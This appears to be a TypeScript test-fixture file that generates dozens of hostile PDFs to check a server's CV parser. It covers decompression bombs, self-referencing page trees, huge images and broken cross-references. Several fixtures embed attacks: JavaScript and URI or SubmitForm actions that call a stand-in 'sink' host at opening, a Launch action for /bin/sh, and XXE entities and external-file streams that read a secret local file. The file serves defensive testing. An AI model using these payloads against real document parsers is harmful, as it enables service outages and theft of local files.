import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import {
  doublingPdf,
  type PdfObject,
  pdfOf,
  pdfWithPages,
  scannedPdf,
  shows,
  swellingPdf,
} from '../../apps/server/src/parser/hostile-files.ts';
import { bytesOf, type HostileFile, type Lures } from './case.ts';

const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const page = (extra = ''): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${extra} >> >>`;
const onePage = (stream: PdfObject, more: PdfObject[] = [], resources = ''): Uint8Array =>
  pdfOf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', page(resources), stream, font, ...more]);
const packed = (text: string | Uint8Array, times: number): PdfObject => {
  let stream: Uint8Array = Buffer.from(text);
  for (let turn = 0; turn < times; turn += 1) stream = deflateSync(stream);
  return { dictionary: `/Filter [${'/FlateDecode '.repeat(times)}]`, stream };
};
const plain = (text: string): PdfObject => ({ dictionary: '', stream: bytesOf(text) });

function lockedPdf(userPassword: string): Promise<Uint8Array> {
  const document = new PDFDocument({ userPassword, ownerPassword: 'owner', pdfVersion: '1.7' });
  const chunks: Buffer[] = [];
  document.on('data', (chunk: Buffer) => chunks.push(chunk));
  document.text('Nobody reads this without the password.');
  return new Promise((resolve) => {
    document.on('end', () => resolve(Buffer.concat(chunks)));
    document.end();
  });
}

/** PDFs that swell, loop, nest, lie about themselves or call outside. */
export async function hostilePdfs({ sink, secretFile }: Lures): Promise<HostileFile[]> {
  const make = (name: string, bytes: Uint8Array, wanted: HostileFile['wanted'] = 'any'): HostileFile => ({
    name: `PDF: ${name}`,
    fileName: 'cv.pdf',
    wanted,
    bytes,
  });
  const spaces = ' '.repeat(1_000_000);
  const kids = (count: number): string => Array.from({ length: count }, () => '3 0 R').join(' ');
  const outside = (action: string): string =>
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} /AA << /WC ${action} >> >>`;
  const withCatalog = (first: string): Uint8Array =>
    pdfOf([first, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', page(), plain(shows('Jane Roe, Cook')), font]);
  const image = (width: number, height: number, filter = '/FlateDecode'): PdfObject => ({
    dictionary: `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter ${filter}`,
    stream: deflateSync(Buffer.alloc(1_000_000)),
  });
  const withImage = (object: PdfObject): Uint8Array =>
    onePage(
      plain(`${shows('Jane Roe, Cook')} q 9 0 0 9 0 0 cm /I Do Q`),
      [object],
      '/XObject << /I 6 0 R >>',
    );
  return [
    make('forms that show each other 2^40 times', doublingPdf(), 'refused'),
    make('a page that unpacks to a quarter gigabyte, packed twice', swellingPdf(), 'refused'),
    ...[1, 2, 3, 5].map((times) =>
      make(`blanks packed ${times} times`, onePage(packed(spaces.repeat(120), times))),
    ),
    make('forty filters in a row', onePage(packed('q Q ', 40))),
    make(
      'a thousand filters named',
      onePage({ dictionary: `/Filter [${'/FlateDecode '.repeat(1000)}]`, stream: deflateSync(bytesOf('x')) }),
    ),
    make(
      'ASCII85 and hexadecimal in turns',
      onePage({
        dictionary: '/Filter [/ASCII85Decode /ASCIIHexDecode /RunLengthDecode]',
        stream: bytesOf(`${'z'.repeat(900_000)}~>`),
      }),
    ),
    make(
      'run lengths that swell',
      onePage({
        dictionary: '/Filter [/FlateDecode /RunLengthDecode /RunLengthDecode]',
        stream: deflateSync(Buffer.alloc(4_000_000, 0x81)),
      }),
    ),
    make('LZW noise', onePage({ dictionary: '/Filter /LZWDecode', stream: Buffer.alloc(500_000, 0x80) })),
    make(
      'a hundred thousand pages in the tree',
      pdfOf([
        catalog,
        `<< /Type /Pages /Kids [${kids(100_000)}] /Count 100000 >>`,
        page(),
        plain(shows('x')),
        font,
      ]),
      'refused',
    ),
    make(
      'a count of pages that is a lie (2^31)',
      pdfOf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>', page(), plain(shows('x')), font]),
    ),
    make(
      'a negative count of pages',
      pdfOf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count -5 >>', page(), plain(shows('x')), font]),
    ),
    make(
      'thirty-one pages',
      pdfWithPages(Array.from({ length: 31 }, (_, i) => shows(`Page ${i}`))),
      'refused',
    ),
    make('a page tree that is its own child', pdfOf([catalog, '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'])),
    make(
      'a page tree of two that hold each other',
      pdfOf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 9 >>',
        '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 9 >>',
      ]),
    ),
    make('no pages', pdfOf([catalog, '<< /Type /Pages /Kids [] /Count 0 >>']), 'refused'),
    make('no catalogue', pdfOf(['<< >>']), 'refused'),
    make(
      'a length that is a reference to itself',
      pdfOf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        page(),
        '<< /Length 4 0 R >>\nstream\nBT ET\nendstream',
        font,
      ]),
    ),
    make(
      'a length of two gigabytes',
      bytesOf(
        Buffer.from(onePage(plain(shows('x'))))
          .toString('latin1')
          .replace(/\/Length \d+/, '/Length 2147483647'),
      ),
    ),
    make(
      'a negative length',
      bytesOf(
        Buffer.from(onePage(plain(shows('x'))))
          .toString('latin1')
          .replace(/\/Length \d+/, '/Length -1'),
      ),
    ),
    make(
      'arrays two hundred thousand deep',
      pdfOf([catalog, `<< /Type /Pages /Kids ${'['.repeat(200_000)}${']'.repeat(200_000)} /Count 1 >>`]),
    ),
    make(
      'dictionaries fifty thousand deep',
      pdfOf([
        catalog,
        `<< /Type /Pages /X ${'<< /X '.repeat(50_000)}1${' >>'.repeat(50_000)} /Kids [3 0 R] /Count 1 >>`,
        page(),
        plain(shows('Jane Roe, Cook')),
        font,
      ]),
    ),
    make('arrays deep in the page', onePage(plain(`${'['.repeat(300_000)} ${shows('x')}`))),
    make('a million saved states', onePage(plain('q '.repeat(1_000_000)))),
    make('a million moves', onePage(plain(`BT /F1 12 Tf ${'1 0 Td (x) Tj '.repeat(300_000)} ET`))),
    make('a string of four million letters', onePage(plain(`BT /F1 12 Tf (${'A'.repeat(4_000_000)}) Tj ET`))),
    make(
      'names of a million letters',
      onePage(plain(`/${'A'.repeat(1_000_000)} Do ${shows('Jane Roe, Cook')}`)),
    ),
    make(
      'numbers beyond numbers',
      onePage(plain(`BT /F1 1e308 Tf 9e999 -9e999 Td (x) Tj ET ${'9'.repeat(500_000)} w`)),
    ),
    make(
      'a font that is its own parent',
      pdfOf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        page(),
        plain(shows('Jane Roe')),
        '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [5 0 R] >>',
      ]),
    ),
    make(
      'a character map that uses itself',
      pdfOf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        page(),
        plain(shows('Jane Roe')),
        '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 6 0 R /ToUnicode 6 0 R /DescendantFonts [7 0 R] >>',
        {
          dictionary: '/Type /CMap /UseCMap 6 0 R',
          stream: bytesOf(
            '/CIDInit /ProcSet findresource begin 1 begincodespacerange <00> <ffffffff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0000> endbfrange',
          ),
        },
        '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << >> >>',
      ]),
    ),
    make(
      'a character map of a billion',
      pdfOf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        page(),
        plain(shows('Jane Roe')),
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>',
        plain(
          '1 begincodespacerange <00> <ffffffff> endcodespacerange 100 beginbfrange <00000000> <3fffffff> <0041> endbfrange',
        ),
      ]),
    ),
    make(
      'a sampled function of a huge size',
      onePage(
        plain(`/CS cs 1 scn ${shows('Jane Roe, Cook')}`),
        [
          {
            dictionary:
              '/FunctionType 0 /Domain [0 1] /Range [0 1 0 1 0 1] /Size [2000000000] /BitsPerSample 8',
            stream: bytesOf('x'),
          },
        ],
        '/ColorSpace << /CS [/Separation /X /DeviceRGB 6 0 R] >>',
      ),
    ),
    make(
      'a PostScript function that nests',
      onePage(
        plain(`/CS cs 1 scn ${shows('Jane Roe, Cook')}`),
        [
          {
            dictionary: '/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]',
            stream: bytesOf('{'.repeat(100_000)),
          },
        ],
        '/ColorSpace << /CS [/Separation /X /DeviceRGB 6 0 R] >>',
      ),
    ),
    make(
      'colour spaces that are made of each other',
      onePage(
        plain(`/CS cs ${shows('Jane Roe, Cook')}`),
        ['[/Indexed 6 0 R 255 (x)]'],
        '/ColorSpace << /CS 6 0 R >>',
      ),
    ),
    make(
      'a pattern that paints itself',
      onePage(
        plain(`/Pattern cs /P scn 0 0 500 500 re f ${shows('Jane Roe, Cook')}`),
        [
          {
            dictionary:
              '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 6 0 R >> >>',
            stream: bytesOf('/Pattern cs /P scn 0 0 1 1 re f'),
          },
        ],
        '/Pattern << /P 6 0 R >>',
      ),
    ),
    make(
      'a soft mask that is its own group',
      onePage(
        plain(`/G gs ${shows('Jane Roe, Cook')}`),
        [
          '<< /SMask << /S /Luminosity /G 7 0 R >> >>',
          {
            dictionary:
              '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Group << /S /Transparency >> /Resources << /ExtGState << /G 6 0 R >> >>',
            stream: bytesOf('/G gs'),
          },
        ],
        '/ExtGState << /G 6 0 R >>',
      ),
    ),
    make(
      'a shading of a million meshes',
      onePage(
        plain(`/S sh ${shows('Jane Roe, Cook')}`),
        [
          {
            dictionary:
              '/ShadingType 4 /ColorSpace /DeviceRGB /BitsPerCoordinate 8 /BitsPerComponent 8 /BitsPerFlag 8 /Decode [0 1 0 1 0 1 0 1 0 1] /Filter /FlateDecode',
            stream: deflateSync(Buffer.alloc(4_000_000)),
          },
        ],
        '/Shading << /S 6 0 R >>',
      ),
    ),
    make('a picture of 60,000 by 60,000', withImage(image(60_000, 60_000))),
    make('a picture of 2^31 by 2^31', withImage(image(2_147_483_647, 2_147_483_647))),
    make('a JPEG 2000 of noise', withImage(image(9_000, 9_000, '/JPXDecode'))),
    make('a JBIG2 of noise', withImage(image(9_000, 9_000, '/JBIG2Decode'))),
    make('a JPEG of noise', withImage(image(30_000, 30_000, '/DCTDecode'))),
    make('a fax of noise', withImage(image(30_000, 30_000, '/CCITTFaxDecode'))),
    make(
      'an inline picture without an end',
      onePage(plain(`BI /W 99999 /H 99999 /CS /RGB /BPC 8 ID ${'x'.repeat(500_000)}`)),
    ),
    make('a scan', scannedPdf(), 'refused'),
    make(
      'a cross-reference that points to itself',
      bytesOf(
        '%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Prev 9 /Size 1 >>\nstartxref\n9\n%%EOF',
      ),
      'refused',
    ),
    make(
      'two cross-references that point to each other',
      bytesOf(
        `%PDF-1.7\nxref\n0 0\ntrailer\n<< /Prev 60 >>${' '.repeat(20)}\nxref\n0 0\ntrailer\n<< /Prev 9 >>\nstartxref\n9\n%%EOF`,
      ),
      'refused',
    ),
    make(
      'a cross-reference of a billion lines',
      bytesOf(
        '%PDF-1.7\nxref\n0 1000000000\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF',
      ),
      'refused',
    ),
    make(
      'a cross-reference stream with wild widths',
      pdfOf([
        catalog,
        {
          dictionary:
            '/Type /XRef /W [1000000 1000000 1000000] /Index [0 2000000000] /Size 2000000000 /Root 1 0 R',
          stream: bytesOf('x'),
        },
      ]),
    ),
    make(
      'an object stream that holds itself',
      pdfOf([
        catalog,
        { dictionary: '/Type /ObjStm /N 1000000000 /First 0 /Extends 2 0 R', stream: bytesOf('2 0 2 0') },
      ]),
    ),
    make(
      'two hundred thousand empty objects',
      bytesOf(`%PDF-1.7\n${Array.from({ length: 100_000 }, (_, i) => `${i} 0 obj<<>>endobj\n`).join('')}`),
      'refused',
    ),
    make(
      'a header and four megabytes of noise',
      Buffer.concat([
        bytesOf('%PDF-1.7\n'),
        Buffer.from(Array.from({ length: 400_000 }, (_, i) => (i * 7919 + (i >> 5)) % 256)),
      ]),
      'refused',
    ),
    make('a password', await lockedPdf('secret'), 'refused'),
    make('a password of no letters', await lockedPdf(''), 'any'),
    make(
      'an unknown lock',
      pdfOf(
        [
          catalog,
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          page(),
          plain(shows('x')),
          font,
          '<< /Filter /Nobody /V 99 /R 99 /O (x) /U (x) /P -1 >>',
        ],
        '/Encrypt 6 0 R /ID [(a) (b)]',
      ),
      'refused',
    ),
    make(
      'a script at opening',
      withCatalog(outside(`<< /S /JavaScript /JS (app.launchURL\\("${sink}/js"\\)) >>`)),
      'read',
    ),
    make('an address at opening', withCatalog(outside(`<< /S /URI /URI (${sink}/uri) >>`)), 'read'),
    make(
      'a form sent at opening',
      withCatalog(outside(`<< /S /SubmitForm /F << /FS /URL /F (${sink}/form) >> >>`)),
      'read',
    ),
    make('a program at opening', withCatalog(outside('<< /S /Launch /F (/bin/sh) >>')), 'read'),
    make(
      'a file of the machine as a stream',
      pdfOf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        page(),
        `<< /F (${secretFile}) /FFilter null /Length 0 >>\nstream\n\nendstream`,
        font,
      ]),
    ),
    make(
      'an address as a stream',
      pdfOf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        page(),
        `<< /F << /FS /URL /F (${sink}/stream) >> /Length 0 >>\nstream\n\nendstream`,
        font,
      ]),
    ),
    make(
      'a page of another file',
      onePage(
        plain(`/X Do ${shows('Jane Roe, Cook')}`),
        [
          {
            dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${secretFile}) /Page 0 >>`,
            stream: bytesOf(''),
          },
        ],
        '/XObject << /X 6 0 R >>',
      ),
      'read',
    ),
    make(
      'an XFA form with an outer entity',
      pdfOf([
        `<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 6 0 R /Fields [] >> >>`,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        page(),
        plain(shows('Jane Roe, Cook')),
        font,
        plain(`<!DOCTYPE x [<!ENTITY e SYSTEM "file://${secretFile}">]><xdp>&e;</xdp>`),
      ]),
      'read',
    ),
    make(
      'metadata with an outer entity',
      pdfOf([
        `<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>`,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        page(),
        plain(shows('Jane Roe, Cook')),
        font,
        {
          dictionary: '/Type /Metadata /Subtype /XML',
          stream: bytesOf(`<!DOCTYPE x [<!ENTITY e SYSTEM "${sink}/meta">]><x:xmpmeta>&e;</x:xmpmeta>`),
        },
      ]),
      'read',
    ),
    make(
      'an outline of a loop',
      pdfOf([
        `<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>`,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        page(),
        plain(shows('Jane Roe, Cook')),
        font,
        '<< /First 6 0 R /Next 6 0 R /Title (x) >>',
      ]),
      'read',
    ),
    make(
      'a page of a thousand kilometres',
      bytesOf(
        Buffer.from(onePage(plain(shows('Jane Roe, Cook'))))
          .toString('latin1')
          .replace('612 792', '9999999999 9999999999'),
      ),
    ),
    make(
      'a page of no size',
      bytesOf(
        Buffer.from(onePage(plain(shows('Jane Roe, Cook'))))
          .toString('latin1')
          .replace('[0 0 612 792]', '[0 0 0 0]    '),
      ),
    ),
    make(
      'a page that is not a number',
      bytesOf(
        Buffer.from(onePage(plain(shows('Jane Roe, Cook'))))
          .toString('latin1')
          .replace('[0 0 612 792]', '[/a /b (c) d]'),
      ),
    ),
  ];
}
